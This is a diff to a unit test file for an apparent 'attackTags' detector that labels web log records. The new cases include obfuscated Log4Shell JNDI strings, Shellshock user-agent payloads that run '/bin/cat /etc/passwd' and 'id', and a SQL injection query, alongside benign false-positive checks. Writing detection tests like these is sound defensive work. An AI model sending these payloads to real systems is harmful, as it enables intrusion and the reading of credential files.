@@ -23,6 +23,10 @@ describe('attackTags', () => {
     [{ userAgent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' }, ['scanner_user_agent']],
     [{ userAgent: '${jndi:ldap://x.example/a}' }, ['log4shell']],
     [{ referer: '${${lower:j}ndi:ldap://x/}' }, ['log4shell']],
+    [{ referer: '${j${k8s:k5:-ND}i${sd:k5:-:}ldap://x.invalid/a}' }, ['log4shell']],
+    [{ userAgent: '() { :; }; /bin/cat /etc/passwd' }, ['command_injection', 'shellshock']],
+    [{ userAgent: '() { _; } >_[$($())] { echo; id; }' }, ['shellshock']],
+    [{ query: 'p=%20AND%201%3D0' }, ['sql_injection']],
     [{ path: '/index.php', query: 'acunetix_wvs_security_test=1' }, ['scanner_marker']],
   ])('tags %o as %o', (fields, tags) => {
     expect(attackTags(record(fields))).toEqual(tags);
@@ -34,6 +38,8 @@ describe('attackTags', () => {
     { path: '/blog/2015/05/union-station-select-menu' },
     { path: '/api/items', query: 'sort=name&order=asc&ls=1&cat=2' },
     { path: '/docs/..hidden' },
+    { path: '/js/app.js', referer: 'https://example.com/?cb=function() {return 1}' },
+    { path: '/band/and-1-more' },
     { path: '/download/report.pdf', userAgent: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)' },
   ])('leaves benign %o untagged', (fields) => {
     expect(attackTags(record(fields))).toEqual([]);
